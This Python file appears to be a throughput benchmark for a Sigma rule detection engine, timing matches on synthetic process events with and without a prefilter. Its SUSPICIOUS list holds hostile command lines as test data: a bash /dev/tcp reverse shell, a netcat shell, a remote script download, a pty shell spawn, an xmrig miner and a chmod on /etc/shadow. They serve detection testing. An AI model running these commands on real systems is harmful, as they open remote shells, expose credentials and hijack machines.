"""Throughput of the Sigma engine with the SigmaHQ Linux rules (plus the builtin pack).

Runs a synthetic mix of process events (mostly benign developer commands, a few attacks)
through the engine with the shared prefilter and without it (every rule of the category is
evaluated), on one core, and prints events/s and the ratio.

    .venv/bin/python bench/rules_engine.py [--events 50000] [--rules DIR] [--no-builtin] [--azuma]

``--azuma`` also times the azuma package (a Python Sigma evaluator) on the SigmaHQ
process_creation rules against our engine on the same rules and events (as Sigma-field dicts).
"""

from __future__ import annotations

import argparse
import random
import sys
import time
from collections.abc import Callable
from pathlib import Path

from watchkeeper.detect import Engine
from watchkeeper.events import Event, ProcessEvent
from watchkeeper.rules import load_rules

REPO = Path(__file__).resolve().parent.parent
SIGMAHQ = REPO.parent / "shared" / "data" / "sigmahq-linux"

BENIGN = [
    ("/usr/bin/git", "git status"),
    ("/usr/bin/git", "git diff --stat HEAD~1"),
    ("/usr/bin/git", "git commit -m 'fix parser edge case'"),
    ("/usr/bin/git", "git log --oneline -n 20"),
    ("/usr/bin/python3", "python3 -m pytest tests/ -q -x"),
    ("/usr/bin/python3", "python3 -m pip install -r requirements.txt"),
    ("/usr/bin/python3", "python3 setup.py build_ext --inplace"),
    ("/usr/bin/python3", "python3 -c 'import sys; print(sys.version)'"),
    ("/usr/bin/ls", "ls -la src/"),
    ("/usr/bin/cat", "cat README.md"),
    ("/usr/bin/grep", "grep -rn 'def main' src/"),
    ("/usr/bin/sed", "sed -n 1,80p src/app/models.py"),
    ("/usr/bin/find", "find . -name '*.py' -newer setup.cfg"),
    ("/usr/bin/make", "make -j2 test"),
    ("/usr/bin/node", "node scripts/build.js --production"),
    ("/usr/bin/npm", "npm run lint"),
    ("/usr/bin/cargo", "cargo test --release"),
    ("/usr/bin/mkdir", "mkdir -p build/out"),
    ("/usr/bin/cp", "cp config.example.toml config.toml"),
    ("/usr/bin/rm", "rm -rf build/"),
    ("/usr/bin/head", "head -n 50 data/train.csv"),
    ("/usr/bin/wc", "wc -l src/*.py"),
    ("/usr/bin/diff", "diff -u old.txt new.txt"),
    ("/usr/bin/bash", "bash -c 'cd src && python3 main.py --help'"),
    ("/usr/bin/sh", "sh -c 'ruff check src tests'"),
    ("/usr/bin/curl", "curl -s http://127.0.0.1:8000/health"),
    ("/usr/bin/tar", "tar -xzf dataset.tar.gz -C data/"),
    ("/usr/bin/echo", "echo done"),
    ("/usr/bin/touch", "touch src/__init__.py"),
    ("/usr/bin/chmod", "chmod +x scripts/run.sh"),
]
SUSPICIOUS = [
    ("/usr/bin/xmrig", "xmrig -o pool.minexmr.com:4444 -u 44abc --donate-level=1 --cpu-priority=5"),
    ("/bin/bash", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"),
    ("/usr/bin/curl", "curl -sSL http://10.0.0.9/x.sh -o /tmp/x.sh"),
    ("/usr/bin/python3", "python3 -c 'import pty;pty.spawn(\"/bin/bash\")'"),
    ("/usr/bin/nc", "nc -e /bin/sh 10.0.0.2 9001"),
    ("/usr/bin/base64", "base64 -d payload.b64"),
    ("/usr/bin/chmod", "chmod 777 /etc/shadow"),
]


def make_events(n: int, seed: int = 7) -> list[Event]:
    """``n`` process events: 95% benign developer commands (with varied arguments), 5% attacks."""
    rng = random.Random(seed)
    events: list[Event] = []
    for i in range(n):
        image, cmd = rng.choice(SUSPICIOUS) if rng.random() < 0.05 else rng.choice(BENIGN)
        cmd = f"{cmd} {rng.choice(['', '-v', '--quiet', f'file{i % 97}.txt', 'src/mod.py'])}".strip()
        events.append(
            ProcessEvent(
                image=image,
                command_line=cmd,
                parent_image="/usr/bin/bash",
                parent_command_line="bash -lc agent-step",
                cwd="/work/project",
                user="agent",
                pid=1000 + i,
                ppid=999,
            )
        )
    return events


def rate(fn: Callable[[Event], object], events: list[Event], repeat: int = 5, chunk: int = 1000) -> float:
    """Events/s on one core: each chunk of events runs ``repeat`` times and its fastest run
    counts, so that other processes on a shared machine disturb the figure less."""
    total = 0.0
    for at in range(0, len(events), chunk):
        part = events[at : at + chunk]
        best = float("inf")
        for _ in range(repeat):
            start = time.perf_counter()
            for event in part:
                fn(event)
            best = min(best, time.perf_counter() - start)
        total += best
    return len(events) / total


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--events", type=int, default=30000)
    parser.add_argument("--rules", action="append", type=Path, default=[])
    parser.add_argument("--no-builtin", action="store_true")
    parser.add_argument("--azuma", action="store_true", help="also compare with azuma")
    args = parser.parse_args(argv)
    paths = args.rules or ([SIGMAHQ] if SIGMAHQ.is_dir() else [])
    if not paths and args.no_builtin:
        print("no rules: pass --rules DIR", file=sys.stderr)
        return 2
    start = time.perf_counter()
    ruleset = load_rules(paths, builtin=not args.no_builtin)
    load_s = time.perf_counter() - start
    start = time.perf_counter()
    fast = Engine(ruleset)
    compile_s = time.perf_counter() - start
    slow = Engine(ruleset, prefilter=False)
    events = make_events(args.events)
    hits = sum(len(fast.matches(e)) for e in events)
    assert hits == sum(len(slow.matches(e)) for e in events), "prefilter changed the results"
    print(f"rules: {len(ruleset)} loaded, {ruleset.unsupported} unsupported "
          f"(load {load_s:.2f} s, compile {compile_s:.2f} s)")
    print(f"prefilter: {fast.stats()}")
    print(f"events: {len(events)} process events, {hits} rule matches")
    with_pf = rate(fast.matches, events)
    without = rate(slow.matches, events)
    with_ev = rate(fast.match, events)
    print(f"engine.matches, prefilter:    {with_pf:10,.0f} events/s")
    print(f"engine.matches, no prefilter: {without:10,.0f} events/s")
    print(f"engine.match (with evidence): {with_ev:10,.0f} events/s")
    print(f"prefilter speed-up: x{with_pf / without:.1f}")
    if args.azuma:
        compare_azuma(events[:2000])
    return 0


def compare_azuma(events: list[Event]) -> None:
    """Our engine and azuma on the SigmaHQ process_creation rules, same events."""
    from azuma import RuleSet  # a dev dependency, only for this comparison

    from watchkeeper.normalize import event_to_sigma

    folder = SIGMAHQ / "process_creation"
    theirs = RuleSet.from_dir(str(folder))
    ours = Engine(load_rules([folder], builtin=False))
    dicts = [event_to_sigma(e) for e in events]
    ours_rate = rate(ours.matches, events, repeat=3)
    start = time.perf_counter()
    for d in dicts:
        theirs.match_all(d)
    theirs_rate = len(dicts) / (time.perf_counter() - start)
    print(f"SigmaHQ process_creation rules, {len(dicts)} events:")
    print(f"  watchkeeper engine: {ours_rate:10,.0f} events/s")
    print(f"  azuma:              {theirs_rate:10,.0f} events/s   (x{ours_rate / theirs_rate:,.0f})")


if __name__ == "__main__":
    sys.exit(main())
